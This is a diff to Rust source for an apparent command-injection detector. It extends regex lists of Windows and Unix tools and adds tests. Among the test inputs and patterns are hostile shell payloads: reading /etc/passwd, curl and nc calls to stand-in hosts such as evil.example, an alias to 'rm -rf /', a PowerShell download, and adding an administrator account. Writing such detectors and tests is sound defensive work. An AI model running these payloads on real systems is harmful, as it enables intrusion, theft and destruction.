@@ -47,9 +47,10 @@ const JS_CODE: &str = r"\bnew\s+function\s*\(|module\s*\.\s*exports\s*=|\bconsol
 /// form, a snippet in a JSON text field.
 const RUBY_CODE: &str = r"\bprocess\s*\.\s*(?:spawn|fork|exec|daemon)\b|\bkernel\s*\.\s*(?:exec|system|spawn|fork|open|eval|syscall|`)|\bio\s*\.\s*popen\s*\(|\bopen3\s*\.\s*(?:popen[23e]?|capture[23e]?|pipeline[a-z_]*)\b|\b(?:instance|class|module)_eval\s*\(|(?:^|[^a-z0-9%])%x\s*[({\[|!]";
 
-/// Windows administration tools whose names are no word of prose: after a separator any
-/// argument makes them a command line. A regex.
-const WINDOWS_ADMIN: &str = "netsh|wevtutil|vssadmin|icacls|cacls|bcdedit|bcdboot|schtasks|wmic|certutil|bitsadmin|klist|nltest|dsquery|fsutil|diskpart|takeown|cmdkey|attrib|tasklist|taskkill|systeminfo|regsvr32|rundll32|mshta|wbadmin|esentutl|ntdsutil|qprocess|quser|qwinsta|winrm|winrs|dnscmd|auditpol|gpresult|nbtstat|driverquery|sc\\.exe";
+/// Windows administration tools whose names are no word of prose, and those whose names are
+/// words with a subcommand that is not (`sc create`, `route print`): after a separator any
+/// argument, or none, makes them a command line. A regex.
+const WINDOWS_ADMIN: &str = "runas|setspn|extrac32|sc\\s+(?:create|config|stop|delete|qc|sdset|failure)|route\\s+(?:print|add|delete|change)|netsh|wevtutil|vssadmin|icacls|cacls|bcdedit|bcdboot|schtasks|wmic|certutil|bitsadmin|klist|nltest|dsquery|fsutil|diskpart|takeown|cmdkey|attrib|tasklist|taskkill|systeminfo|regsvr32|rundll32|mshta|wbadmin|esentutl|ntdsutil|qprocess|quser|qwinsta|winrm|winrs|dnscmd|auditpol|gpresult|nbtstat|driverquery|sc\\.exe";
 
 /// Commands that are an attack after a separator when an argument shape follows, together with
 /// [`TOOLS`] (see [`strong_commands`]). The Windows administration tools among them (`icacls`,
@@ -66,26 +67,26 @@ const TOOLS: &[&str] = &[
     "chsh", "cleanmgr", "cmdl32", "cobc", "composer", "conhost", "coproc", "cowsay", "cpan", "cpanm", "csc",
     "csplit", "csvde", "csvtool", "cupsfilter", "defrag", "deno", "dhclient", "diskcopy", "diskshadow", "dmidecode",
     "dmsetup", "dosbox", "doskey", "dsacls", "dsadd", "dsget", "dsmod", "dsrm", "dvips", "easy_install", "egrep",
-    "eventcreate", "eventvwr", "exiftool", "facter", "fgrep", "findstr", "fping", "ftpwho", "ftype", "gawk",
-    "gcloud", "gcore", "gem", "genisoimage", "getfacl", "getmac", "ghc", "ghci", "ginsh", "gpg", "gpg2", "gpupdate",
-    "groovy", "groupdel", "gtester", "gzcat", "gzexe", "helm", "hh", "htdigest", "htpasswd", "iconv", "iftop",
-    "iisreset", "ionice", "ip6tables", "ispell", "jexec", "jjs", "jsc", "jshell", "klist", "knife", "ksetup",
-    "ksshell", "ktpass", "lastcomm", "lastlog", "ldconfig", "ldifde", "lessecho", "lesspipe", "lftp", "lftpget",
-    "lodctr", "loginctl", "logman", "logsave", "lshw", "lualatex", "luatex", "lwp-dump", "lwp-mirror", "lz4",
-    "lzcat", "lzless", "lzma", "mailq", "mailx", "manage-bde", "mawk", "mklink", "mlocate", "mmc", "mosquitto",
-    "mountvol", "msinfo32", "mstsc", "msxsl", "mtr", "mutt", "mysqladmin", "mysqldump", "mysqlshow", "nasm", "nawk",
-    "neofetch", "netdom", "nodejs", "nping", "nroff", "nstat", "ntbackup", "openfiles", "openvpn", "openvt", "opkg",
-    "osql", "pacman", "pcalua", "pdb", "pdflatex", "pdftex", "perfmon", "perl5", "perlsh", "pftp", "pgrep",
-    "php-cgi", "pidstat", "pigz", "pktmon", "popd", "powershell_ise", "psftp", "ptar", "puppet", "pushd", "pypy",
-    "qprocess", "raku", "rdpsign", "regini", "relog", "repadmin", "restic", "rexec", "rlwrap", "rmuser", "rnano",
-    "rpcping", "rpmdb", "rpmquery", "rpmverify", "run-mailcap", "run-parts", "rview", "rvim", "rwinsta",
-    "scriptrunner", "secedit", "setarch", "setfacl", "sfc", "shuf", "slsh", "soelim", "sqlcmd", "ssh-keygen",
-    "ssh-keyscan", "sshpass", "start-stop-daemon", "stdbuf", "subst", "svn", "sxstrace", "sysctl", "systemd-resolve",
-    "systemd-run", "tailf", "taskset", "tcping", "tcptraceroute", "timedatectl", "tpmtool", "traceroute6",
-    "tracerpt", "troff", "tscon", "tsdiscon", "tskill", "typeperf", "tzutil", "unlz4", "unlzma", "unpigz", "unzstd",
-    "update-alternatives", "userdel", "uudecode", "uuencode", "valgrind", "vbc", "vigr", "vimdiff", "vipw", "virsh",
-    "waitfor", "wdsutil", "wecutil", "winnt32", "wireshark", "wsl", "xelatex", "xetex", "xmodmap", "xzcat", "xzdec",
-    "xzgrep", "xzless", "yarn", "zathura", "zipdetails", "zsoelim", "zstd", "zypper",
+    "eventcreate", "eventvwr", "exiftool", "extrac32", "facter", "fgrep", "findstr", "fping", "ftpwho", "ftype",
+    "gawk", "gcloud", "gcore", "gem", "genisoimage", "getfacl", "getmac", "ghc", "ghci", "ginsh", "gpg", "gpg2",
+    "gpupdate", "groovy", "groupdel", "gtester", "gzcat", "gzexe", "helm", "hh", "htdigest", "htpasswd", "iconv",
+    "iftop", "iisreset", "ionice", "ip6tables", "ispell", "jexec", "jjs", "jsc", "jshell", "klist", "knife",
+    "ksetup", "ksshell", "ktpass", "lastcomm", "lastlog", "ldconfig", "ldifde", "lessecho", "lesspipe", "lftp",
+    "lftpget", "lodctr", "loginctl", "logman", "logsave", "lshw", "lualatex", "luatex", "lwp-dump", "lwp-mirror",
+    "lz4", "lzcat", "lzless", "lzma", "mailq", "mailx", "manage-bde", "mawk", "mklink", "mlocate", "mmc",
+    "mosquitto", "mountvol", "msinfo32", "mstsc", "msxsl", "mtr", "mutt", "mysqladmin", "mysqldump", "mysqlshow",
+    "nasm", "nawk", "neofetch", "netdom", "nodejs", "nping", "nroff", "nstat", "ntbackup", "openfiles", "openvpn",
+    "openvt", "opkg", "osql", "pacman", "pcalua", "pdb", "pdflatex", "pdftex", "perfmon", "perl5", "perlsh", "pftp",
+    "pgrep", "php-cgi", "pidstat", "pigz", "pktmon", "popd", "powershell_ise", "psftp", "ptar", "puppet", "pushd",
+    "pypy", "qprocess", "raku", "rdpsign", "regini", "relog", "repadmin", "restic", "rexec", "rlwrap", "rmuser",
+    "rnano", "rpcping", "rpmdb", "rpmquery", "rpmverify", "run-mailcap", "run-parts", "runas", "rview", "rvim",
+    "rwinsta", "scriptrunner", "secedit", "setarch", "setfacl", "setspn", "sfc", "shuf", "slsh", "soelim", "sqlcmd",
+    "ssh-keygen", "ssh-keyscan", "sshpass", "start-stop-daemon", "stdbuf", "subst", "svn", "sxstrace", "sysctl",
+    "systemd-resolve", "systemd-run", "tailf", "taskset", "tcping", "tcptraceroute", "timedatectl", "tpmtool",
+    "traceroute6", "tracerpt", "troff", "tscon", "tsdiscon", "tskill", "typeperf", "tzutil", "unlz4", "unlzma",
+    "unpigz", "unzstd", "update-alternatives", "userdel", "uudecode", "uuencode", "valgrind", "vbc", "vigr",
+    "vimdiff", "vipw", "virsh", "waitfor", "wdsutil", "wecutil", "winnt32", "wireshark", "wsl", "xelatex", "xetex",
+    "xmodmap", "xzcat", "xzdec", "xzgrep", "xzless", "yarn", "zathura", "zipdetails", "zsoelim", "zstd", "zypper",
 ];
 
 /// The alternation of every command that counts after a separator with an argument shape:
@@ -135,35 +136,33 @@ const DANGEROUS: &str = r"(?:whoami|uname|ifconfig|ipconfig|wget|curl|nc|ncat|ne
 
 /// Command names for the trigger gates (a superset of [`STRONG`] as plain words). Sorted.
 const COMMANDS: &[&str] = &[
-    "7z", "7za", "alias", "ansible", "apt", "apt-get", "aria2c", "arp", "arping", "at", "attrib", "awk",
-    "base32", "base64", "basename", "bash", "bc", "bcdboot", "bcdedit", "bitsadmin", "bunzip2", "busybox",
-    "bzip2", "c89", "c99", "cacls", "call", "capsh", "cat", "cc", "certreq", "certutil", "chattr", "chef",
-    "chmod", "chown", "chpasswd", "chroot", "cmd", "cmd.exe", "cmdkey", "cmstp", "copy", "cp", "cpio",
-    "cpulimit", "crontab", "cscli", "cscript", "csh", "curl", "cut", "dash", "date", "dd", "del", "df", "dig",
-    "dir", "dirname", "diskpart", "dism", "dmesg", "dnf", "dnscmd", "doas", "docker", "dpkg", "driverquery",
-    "dsquery", "du", "echo", "emacs", "env", "esentutl", "eval", "ex", "exec", "expect", "export", "file",
-    "find", "flock", "forfiles", "fsutil", "ftp", "gcc", "gdb", "getcap", "getent", "git", "gpresult", "grep",
-    "groupadd", "gunzip", "gzip", "head", "hexdump", "hostname", "hping3", "icacls", "id", "ieexec",
-    "ifconfig", "insmod", "installutil", "iostat", "ip", "ipconfig", "iptables", "irb", "java", "journalctl",
-    "jq", "jrunscript", "kill", "killall", "ksh", "kubectl", "last", "ldd", "less", "ll", "ln", "ls",
-    "lsb_release", "lsblk", "lscpu", "lsmod", "lsof", "lspci", "lsusb", "ltrace", "lua", "lynx", "mail",
-    "makecab", "masscan", "md5sum", "mkdir", "mkfifo", "mktemp", "modprobe", "mofcomp", "more", "mount",
-    "msbuild", "msdt", "msfconsole", "msfvenom", "mshta", "msiexec", "mv", "mysql", "nano", "nbtstat", "nc",
-    "ncat", "net", "net1", "netcat", "netsh", "netstat", "nl", "nltest", "nmap", "node", "nohup", "npm",
-    "npx", "nsenter", "nslookup", "ntdsutil", "objdump", "od", "odbcconf", "openssl", "passwd", "pathping",
-    "perf", "perl", "php", "ping", "pip", "pip3", "pipx", "pkexec", "pkill", "pnputil", "powershell",
-    "powershell.exe", "presentationhost", "printenv", "printf", "ps", "psql", "pwd", "pwsh", "python",
-    "python2", "python3", "quser", "qwinsta", "rc", "readelf", "readlink", "realpath", "reboot", "reg",
-    "regasm", "regedit", "regsvcs", "regsvr32", "renice", "rev", "rlogin", "rm", "rmdir", "rmmod", "rmt",
-    "robocopy", "route", "rpm", "rsh", "rsync", "ruby", "rundll32", "runuser", "schtasks", "scp", "sdbinst",
-    "sed", "sendmail", "set", "setcap", "setsid", "setx", "sftp", "sh", "sha1sum", "sha256sum", "shred",
-    "shutdown", "sleep", "smbclient", "socat", "sort", "source", "sqlite3", "sqlmap", "ss", "ssh", "start",
-    "stat", "strace", "strings", "sudo", "systemctl", "systeminfo", "tac", "tail", "takeown", "tar",
-    "taskkill", "tasklist", "tclsh", "tcpdump", "tcsh", "tee", "telnet", "tftp", "time", "timeout", "tmux",
-    "top", "touch", "tr", "traceroute", "tracert", "tshark", "type", "uconv", "uname", "uniq", "unrar",
-    "unset", "unshare", "unxz", "unzip", "uptime", "useradd", "usermod", "vi", "vim", "visudo", "vmstat",
-    "vssadmin", "w", "w3m", "wbadmin", "wc", "wevtutil", "wget", "whereis", "who", "whoami", "whois", "winrm",
-    "winrs", "wish", "wmic", "wscript", "wusa", "xargs", "xcopy", "xterm", "xxd", "xz", "yum", "zcat",
+    "7z", "7za", "alias", "ansible", "apt", "apt-get", "aria2c", "arp", "arping", "at", "attrib", "awk", "base32",
+    "base64", "basename", "bash", "bc", "bcdboot", "bcdedit", "bitsadmin", "bunzip2", "busybox", "bzip2", "c89",
+    "c99", "cacls", "call", "capsh", "cat", "cc", "certreq", "certutil", "chattr", "chef", "chmod", "chown",
+    "chpasswd", "chroot", "cmd", "cmd.exe", "cmdkey", "cmstp", "copy", "cp", "cpio", "cpulimit", "crontab", "cscli",
+    "cscript", "csh", "curl", "cut", "dash", "date", "dd", "del", "df", "dig", "dir", "dirname", "diskpart", "dism",
+    "dmesg", "dnf", "dnscmd", "doas", "docker", "dpkg", "driverquery", "dsquery", "du", "echo", "emacs", "env",
+    "esentutl", "eval", "ex", "exec", "expect", "export", "file", "find", "flock", "forfiles", "fsutil", "ftp",
+    "gcc", "gdb", "getcap", "getent", "git", "gpresult", "grep", "groupadd", "gunzip", "gzip", "head", "hexdump",
+    "hostname", "hping3", "icacls", "id", "ieexec", "ifconfig", "insmod", "installutil", "iostat", "ip", "ipconfig",
+    "iptables", "irb", "java", "journalctl", "jq", "jrunscript", "kill", "killall", "ksh", "kubectl", "last", "ldd",
+    "less", "ll", "ln", "ls", "lsb_release", "lsblk", "lscpu", "lsmod", "lsof", "lspci", "lsusb", "ltrace", "lua",
+    "lynx", "mail", "makecab", "masscan", "md5sum", "mkdir", "mkfifo", "mktemp", "modprobe", "mofcomp", "more",
+    "mount", "msbuild", "msdt", "msfconsole", "msfvenom", "mshta", "msiexec", "mv", "mysql", "nano", "nbtstat",
+    "nc", "ncat", "net", "net1", "netcat", "netsh", "netstat", "nl", "nltest", "nmap", "node", "nohup", "npm",
+    "npx", "nsenter", "nslookup", "ntdsutil", "objdump", "od", "odbcconf", "openssl", "passwd", "pathping", "perf",
+    "perl", "php", "ping", "pip", "pip3", "pipx", "pkexec", "pkill", "pnputil", "powershell", "powershell.exe",
+    "presentationhost", "printenv", "printf", "ps", "psql", "pwd", "pwsh", "python", "python2", "python3", "quser",
+    "qwinsta", "rc", "readelf", "readlink", "realpath", "reboot", "reg", "regasm", "regedit", "regsvcs", "regsvr32",
+    "renice", "rev", "rlogin", "rm", "rmdir", "rmmod", "rmt", "robocopy", "route", "rpm", "rsh", "rsync", "ruby",
+    "rundll32", "runuser", "sc", "schtasks", "scp", "sdbinst", "sed", "sendmail", "set", "setcap", "setsid", "setx",
+    "sftp", "sh", "sha1sum", "sha256sum", "shred", "shutdown", "sleep", "smbclient", "socat", "sort", "source",
+    "sqlite3", "sqlmap", "ss", "ssh", "start", "stat", "strace", "strings", "sudo", "systemctl", "systeminfo",
+    "tac", "tail", "takeown", "tar", "taskkill", "tasklist", "tclsh", "tcpdump", "tcsh", "tee", "telnet", "tftp",
+    "time", "timeout", "tmux", "top", "touch", "tr", "traceroute", "tracert", "tshark", "type", "uconv", "uname",
+    "uniq", "unrar", "unset", "unshare", "unxz", "unzip", "uptime", "useradd", "usermod", "vi", "vim", "visudo",
+    "vmstat", "vssadmin", "w", "w3m", "wbadmin", "wc", "wevtutil", "wget", "whereis", "who", "whoami", "whois",
+    "winrm", "winrs", "wish", "wmic", "wscript", "wusa", "xargs", "xcopy", "xterm", "xxd", "xz", "yum", "zcat",
     "zgrep", "zip", "zsh",
 ];
 
@@ -267,7 +266,24 @@ fn command_follows(b: &[u8], _s: usize, e: usize) -> bool {
     if w.is_empty() {
         return false;
     }
-    is_command(w) || is_imap_tag(w)
+    is_command(w) || is_imap_tag(w) || is_executable_name(w)
+}
+
+/// A program's file name with a Windows executable extension (`calc.exe`, `x.bat`, `a.ps1`).
+fn is_executable_name(w: &[u8]) -> bool {
+    [&b".exe"[..], b".bat", b".cmd", b".ps1", b".vbs", b".hta", b".scr"].iter().any(|x| w.len() > x.len() && w.ends_with(x))
+}
+
+/// Gate for `!`: a command follows ([`command_follows`]), or a history designator that re-runs
+/// an earlier command (`!!`, `!-2`) at the start of the value or after a separator.
+fn bang(b: &[u8], s: usize, e: usize) -> bool {
+    let designator = match b.get(e) {
+        Some(b'!') => true,
+        Some(b'-') => b.get(e + 1).is_some_and(u8::is_ascii_digit),
+        _ => false,
+    };
+    let after_separator = b[..s].iter().rev().find(|&&c| c > b' ').map_or(true, |c| matches!(c, b';' | b'|' | b'&'));
+    (designator && after_separator) || command_follows(b, s, e)
 }
 
 /// A known command, also as the head of a hyphenated tool name (`ansible-config`, `chef-client`).
@@ -435,7 +451,7 @@ impl Cmdi {
         // variable, redirection, glob, or end of the value. A `+`
         // separates words where the value is URL-encoded form data (`;cat+/etc/passwd`).
         // `ends` are the separators that may close the command (`;id;`, `|id|`).
-        let arg = |ends: &str| format!(r#"(?:[\s+]+[-/~.$<>*?{{%"']|[\s+]+(?:[^\s;|&/<>]+[\s+]+){{1,3}}/[a-z?]{{1,12}}(?::\S*)?(?:[\s+]|$)|[\s+]+hk(?:lm|cu|cr|u|cc|ey_[a-z_]+)[\\:]|[\s+]+(?:[0-7]{{3,4}}|[ugoa]*[-+=][rwxst]+)[\s+]+\S|[\s+]+(?:install|add|remove|uninstall|run|exec|require|upgrade|apply)[\s+]+[a-z0-9@/._-]+(?:[\s+]*[;|&]|[\s+]+-|[\s+]*$)|[\s+]+[a-z]:[\\/]|[\s+]+[a-z][a-z0-9_-]*[\s+]+--?[a-z]|\s*[<>{ends}`)]|\s+[a-z0-9_.-]+\s*[{ends}<>`)]|\s+[a-z0-9_-]+\.[a-z0-9]{{1,5}}(?:\s|$)|\s*$)"#);
+        let arg = |ends: &str| format!(r#"(?:[\s+]+[-/~.$<>*?{{%"']|[\s+]+(?:[^\s;|&/<>]+[\s+]+){{1,3}}/[a-z?]{{1,12}}(?::\S*)?(?:[\s+]|$)|[\s+]+hk(?:lm|cu|cr|u|cc|ey_[a-z_]+)[\\:]|[\s+]+(?:[0-7]{{3,4}}|[ugoa]*[-+=][rwxst]+)[\s+]+\S|[\s+]+(?:install|add|remove|uninstall|run|exec|require|upgrade|apply)[\s+]+[a-z0-9@/._-]+(?:[\s+]*[;|&]|[\s+]+-|[\s+]*$)|[\s+]+[a-z]:[\\/]|[\s+]+\d{{1,3}}(?:\.\d{{1,3}}){{3}}(?:[\s:/]|$)|[\s+]+[a-z][a-z0-9_-]*[\s+]+--?[a-z]|\s*[<>{ends}`)]|\s+[a-z0-9_.-]+\s*[{ends}<>`)]|\s+[a-z0-9_-]+\.[a-z0-9]{{1,5}}(?:\s|$)|\s*$)"#);
         // A backquote is not a separator here: Markdown uses it for inline code; substitution is
         // matched on its own below.
         let sep = r"(?:[;|\n\r]|&&|&|\$\(|<\(|\|\|)";
@@ -445,9 +461,25 @@ impl Cmdi {
         let command_after = |sep: &str, arg: &str| format!(r"{sep}\s*(?:[{{(]\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})(?:\.exe)?\b{arg}");
         // Between two pipes, words are a table's cell (`| date |`, `| file size |`), so a command
         // after a pipe needs an argument shape of its own.
-        let strong_after_sep = format!("{}|{}", command_after(r"(?:;|&&|&|\$\(|<\(|\|\|)", &arg("|;&")), command_after(r"\|", &arg(";&")));
+        // `&` between spaces joins two words of prose (`Filter & Sort`, `Python & Ruby`, `time &
+        // date`): there a command needs an argument shape of its own, not just the end of the
+        // value; glued to either side (`x&id`, `x &id`) it is a shell's.
+        let glued_amp = r"(?:^|[^\s&])&";
+        let in_line = arg("|;&");
+        let in_line = in_line.strip_suffix(r"|\s*$)").map(|a| format!("{a})")).unwrap_or(in_line.clone());
+        let strong_after_sep = format!(
+            r"{}|{}|\s&(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})(?:\.exe)?\b{}|\s&\s+(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})(?:\.exe)?\b{in_line}",
+            command_after(&format!(r"(?:;|&&|{glued_amp}|\$\(|<\(|\|\|)"), &arg("|;&")),
+            command_after(r"\|", &arg(";&")),
+            arg("|;&"),
+        );
         let strong_on_a_line = command_after(r"[\n\r]", &arg("|;&"));
-        let any_after_sep = format!(r"{sep}\s*(?:[{{(]\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})(?:\.exe)?(?:[\s)]|$)");
+        // After a spaced `&` a dangerous command needs an argument shaped like a host, a path, a
+        // URL or an option, or to be a reconnaissance command ending the value (`x & whoami`).
+        let probes = PROBES.join("|");
+        let any_after_sep = format!(
+            r#"(?:[;|\n\r]|&&|{glued_amp}|\$\(|<\(|\|\|)\s*(?:[{{(]\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})(?:\.exe)?(?:[\s)]|$)|\s&(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})(?:\.exe)?(?:[\s)]|$)|\s&\s+(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})(?:\.exe)?(?:\s*[;|&)]|\s+[-/$~.<>'"\\]|\s+\S*[./:\\]\S*)|\s&\s+(?:{probes})(?:\.exe)?\s*$"#
+        );
         let wrapped = format!(r"(?:^|{sep})\s*(?:sudo|nohup|strace|ltrace|nice|timeout\s+\d+[a-z]?|time|env|exec|xargs|watch|busybox)\s+(?:-\S+\s+)*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})\b");
         // `x ;top`, `;ls`: a separator glued to the command after it but not to the word before
         // it is how a shell line is typed; prose puts the space after the punctuation.
@@ -476,10 +508,13 @@ impl Cmdi {
         let delay = format!(r"{sep}\s*(?:sleep\s+\d+(?:\.\d+)?[smhd]?|timeout\s+/t\s+\d+)\s*(?:$|[;|&#`)])");
         // PowerShell cmdlets that run, fetch or reach the system (`Invoke-Expression`,
         // `Get-ChildItem`, `New-Object Net.WebClient`), and `iex`/`iwr` in their code shapes.
-        let powershell = format!(r"(?:^|{sep}|`)\s*(?:{POWERSHELL_CMDLETS})\b|\|\s*iex\b|\biex\s*\(\s*(?:new-object|iwr|irm|invoke-|\(|\[|\$)|\b(?:iwr|irm)\s+(?:-uri\s+)?https?://");
+        let powershell = format!(r"(?:^|{sep}|`|\bpowershell(?:\.exe)?\s+(?:-[a-z]+\s+)*)\s*(?:{POWERSHELL_CMDLETS})\b|\|\s*iex\b|\biex\s*\(\s*(?:new-object|iwr|irm|invoke-|\(|\[|\$)|\b(?:iwr|irm)\s+(?:-uri\s+)?https?://");
         // `&wevtutil cl system`, `|netsh firewall set opmode disable`: Windows administration
         // tools, no word of any language, take plain words as arguments.
-        let windows_admin = format!(r"{sep}\s*(?:{WINDOWS_ADMIN})(?:\.exe)?\s+[a-z0-9/+-]");
+        // `net` takes English words (`net user growth`): with a switch or a share it is the tool.
+        let windows_admin = format!(r"{sep}\s*(?:(?:{WINDOWS_ADMIN})(?:\.exe)?(?:\s+[a-z0-9/+-]|\s*$)|net1?(?:\.exe)?\s+(?:user|localgroup|group|view|share|use|start|stop|accounts|session)\b(?:\s+[^\s;|&]+){{0,3}}?\s+(?:/[a-z]|\\\\))");
+        // `alias ls='rm -rf /'`: a command name made to run another command.
+        let alias = format!(r#"(?:^|{sep})\s*alias\s+[a-z0-9_.-]+\s*=\s*["']?\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})\b"#);
         let sqlite = format!(r"(?:^|[;\n])\s*\.(?:{})\b", SQLITE_DOT_COMMANDS.join("|"));
         let table = [
             (base64_js.as_str(), Critical, 0.9, "base64-encoded server-side JavaScript"),
@@ -489,7 +524,7 @@ impl Cmdi {
             // `0>&1` ties the shell's input to its output socket; `2>&1` is every script's stderr.
             (r"/dev/(?:tcp|udp)/|\b(?:bash|sh)\s+-i\b|\bnc(?:at)?\b[^|;]*\s-[a-z]*e\s|\bmkfifo\b|(?:^|[^0-9])0>&\d|\bexec\s+\d*<>", Critical, 0.95, "reverse shell"),
             (r"\b(?:curl|wget|fetch)\b[^|;]*\|\s*(?:ba|z|k)?sh\b", Critical, 0.95, "download piped to a shell"),
-            (r"(?:require\s*\(\s*['`]child_process['`]\s*\)|child_process|process\s*\.\s*(?:mainmodule|binding|\[)|process\[|process\s*\[\s*['`\x22]|_\$\$nd_func\$\$_|\bconstructor\s*(?:\.\s*|\[\s*['`\x22])constructor\b|\brequire\s*\.\s*main\b|\brequire\s*\[|__js_function|\beval\s*\(\s*string\s*\.\s*fromcharcode|\beval\s*\(\s*(?:atob|unescape|decodeuricomponent|buffer\s*\.\s*from|require|process)\b|\bfunction\s*\(\s*['`\x22][^'`\x22]*['`\x22]\s*\)\s*\(|\breflect\s*\.\s*(?:construct|apply)\s*\(\s*(?:function|eval)\b|\b(?:exec|execfile|spawn)sync\s*\()", High, 0.85, "server-side JavaScript code injection"),
+            (r"(?:require\s*\(\s*['`]child_process['`]\s*\)|child_process|process\s*\.\s*(?:mainmodule|binding|\[)|process\[|process\s*\[\s*['`\x22]|_\$\$nd_func\$\$_|\bconstructor\s*(?:\.\s*|\[\s*['`\x22])constructor\b|\brequire\s*\.\s*main\b|\brequire\s*\[|__js_function|\beval\s*\(\s*string\s*\.\s*fromcharcode|\beval\s*\(\s*(?:atob|unescape|decodeuricomponent|buffer\s*\.\s*from|require|process)\b|\bfunction\s*\(\s*['`\x22][^'`\x22]*['`\x22]\s*\)\s*\(|\breflect\s*\.\s*(?:construct|apply)\s*\(\s*(?:function|eval)\b|\b(?:exec|execfile|spawn)sync\s*\(|\$[0-9a-z@]*:(?:[a-z_$][\w$]*:)*constructor\b)", High, 0.85, "server-side JavaScript code injection"),
             (JS_CODE, Medium, 0.6, "JavaScript code"),
             (RUBY_CODE, Medium, 0.6, "Ruby code"),
             (windows_admin.as_str(), High, 0.85, "Windows administration tool after a shell separator"),
@@ -520,8 +555,12 @@ impl Cmdi {
             (ansi_c.as_str(), High, 0.8, "shell expansion spelling characters"),
             (brace_expansion.as_str(), High, 0.7, "brace expansion"),
             (r"(?:^|[;|&\s])~[+-]\d*(?:$|/|\s*[;|&])", High, 0.7, "tilde expansion"),
-            (r"@\s*\{\s*\[.*\]\s*\}?|@\{\[", High, 0.8, "Perl interpolation"),
-            (r"(?:\r?\n|^)\s*(?:mail\s+from|rcpt\s+to)\s*:|\r?\n\s*(?:helo|ehlo|vrfy|expn)\s+[a-z0-9<@.-]|\r?\n\s*[a-z]{1,4}\d{1,4}\s+(?:authenticate|uid|login|expunge|lsub|capability|logout|starttls|getquota|getquotaroot|setquota|getacl|setacl|myrights|listrights)\b|\r?\n\s*[a-z]{1,4}\d{1,4}\s+(?:append|status|select|examine|fetch|store)\s+[^\r\n]*?(?:\binbox\b|[({\x22\\]|\d:|[+-]flags)", High, 0.75, "SMTP/IMAP command injection"),
+            // `!!`, `!-2`: bash re-runs an earlier command line of the session.
+            (r"(?:^|[;|&])\s*!(?:!|-\d+)\s*(?:$|[;|&])", High, 0.7, "shell history expansion"),
+            (alias.as_str(), High, 0.8, "shell alias for a command"),
+            // `@{[ system 'id' ]}` runs a list, `${\ `id`}` a scalar reference, inside a Perl string.
+            (r"@\s*\{\s*\[.*\]\s*\}?|@\{\[|\$\{\s*\\\s*(?:\(|`|[a-z_:]+\s*[(`'\x22])", High, 0.8, "Perl interpolation"),
+            (r"(?:\r?\n|^)\s*(?:mail\s+from|rcpt\s+to)\s*:|\r?\n\s*(?:helo|ehlo|vrfy|expn)\s+[a-z0-9<@.-]|\r?\n\s*[a-z]{1,4}\d{1,4}\s+(?:authenticate|uid|login|expunge|lsub|capability|logout|starttls|getquota|getquotaroot|setquota|getacl|setacl|myrights|listrights)\b|\r?\n\s*[a-z]{1,4}\d{1,4}\s+(?:append|status|select|examine|fetch|store|create|delete|rename|subscribe|unsubscribe|list|copy|move|search)\s+[^\r\n]*?(?:\binbox\b|[({\x22\\]|\d:|[+-]flags)", High, 0.75, "SMTP/IMAP command injection"),
             (sqlite.as_str(), High, 0.8, "SQLite shell command"),
             (delay.as_str(), High, 0.8, "delay command after a shell separator"),
             (powershell.as_str(), High, 0.85, "PowerShell command"),
@@ -731,6 +770,8 @@ impl Check for Cmdi {
             lit("~+"),
             lit("~-"),
             lit("@{"),
+            lit("@ {"),
+            lit("${\\"),
             lit("mail from"),
             lit("rcpt to"),
             gated(".shell", sqlite_dot_command),
@@ -765,9 +806,12 @@ impl Check for Cmdi {
             lit("\nnoop"),
             gated("-e", exec_option),
             gated("${", substring_expansion),
+            lit("${ifs}"),
+            lit("$ifs"),
+            gated("alias", starts_word),
             lit("$'"),
             gated(">", redirection),
-            gated("!", command_follows),
+            gated("!", bang),
             gated("?", glob_component),
             gated("*", glob_component),
             gated("eval", starts_word),
@@ -940,6 +984,74 @@ mod tests {
         assert!(at(Part::Query, "wget http://x.example/a.sh") && at(Part::Body, "curl -s -o /tmp/a https://x.example/a"));
         assert!(!any_flag_in_json("wget https://example.com/release.zip"));
         for v in ["R&D attrib (v2)", "wow. /s", "see . /docs", "for people in (London) do visit", "if exists, skip", "wget is a tool"] {
+            assert!(!flags("attack.cmdi", v), "{v}");
+        }
+    }
+
+    #[test]
+    fn a_spaced_ampersand_joins_words_of_prose() {
+        for v in ["Python & Ruby developers", "time & date", "Filter & Sort", "Cut & Copy", "Search & Find", "Java & PHP", "Relax & Sleep", "Shop & More", "Name & ID", "gross & net user growth", "Q&A: net use of funds", "bus & route planner"] {
+            assert!(!flags("attack.cmdi", v), "{v}");
+        }
+        for v in [
+            "x & whoami",
+            "127.0.0.1 & ping -n 5 127.0.0.1",
+            "a & ping 10.0.0.1",
+            "x & python exploit.py",
+            "x & curl http://evil.example/a",
+            "x & cat /etc/passwd",
+            "x & nc 10.0.0.1 4444",
+            "x&id",
+            "x &id",
+            "x& id",
+            "x & date; x",
+            "x & perl -e 'exec q(sh)'",
+            "x.jpg& tracert 10.0.0.1",
+            "x.jpg& route print",
+            "x| sc create x binpath= c:\\x.exe",
+            "x& runas /user:admin cmd",
+            "x& net localgroup administrators eve /add",
+            "x & net view \\\\fileserver",
+        ] {
+            assert!(flags("attack.cmdi", v), "{v}");
+        }
+    }
+
+    #[test]
+    fn ifs_openings_history_aliases_executables_and_imap_mailboxes() {
+        use crate::fields::Part;
+        for v in [
+            "${IFS}cat${IFS}/etc/hosts",
+            "$IFS/bin/cat$IFS$9/etc/hosts",
+            "!!",
+            "x; !-2",
+            "alias ls='rm -rf /'",
+            "x; alias grep=\"curl -s //evil.example\"",
+            "x\r\nB7 DELETE INBOX",
+            "x\r\nc1 RENAME INBOX old",
+            "powershell Invoke-WebRequest https://evil.example/x -OutFile x.exe",
+            "@ { [ system 'id' ] }",
+            "${\\ `id`}",
+            "${\\ system('id')}",
+            "{\"get\":\"$1:constructor:constructor\"}",
+        ] {
+            assert!(flags("attack.cmdi", v), "{v}");
+        }
